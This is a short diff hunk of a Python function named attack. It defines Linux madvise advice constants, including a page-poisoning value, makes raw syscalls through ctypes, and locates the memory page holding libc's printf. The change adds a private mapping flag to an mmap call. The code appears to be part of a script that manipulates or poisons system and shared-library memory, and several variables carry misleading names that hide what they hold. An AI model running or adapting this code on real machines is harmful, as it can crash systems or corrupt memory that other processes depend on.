@@ -8,7 +8,7 @@ MERGEABLE, COLD, PAGEOUT, WIPE, REMOVE, POISON = 12, 20, 21, 18, 9, 100
 
 def attack(root, worker):
     system_call("how full the machine is", {"x86_64": 99}.get(os.uname().machine, 179), (ctypes.c_ulong * 32)())
-    own = mmap.mmap(-1, 1 << 20)
+    own = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE)
     here = ctypes.addressof(ctypes.c_char.from_buffer(own))
     numpy = ctypes.cast(_libc.printf, ctypes.c_void_p).value & ~4095
     number = {"x86_64": 28}.get(os.uname().machine, 233)
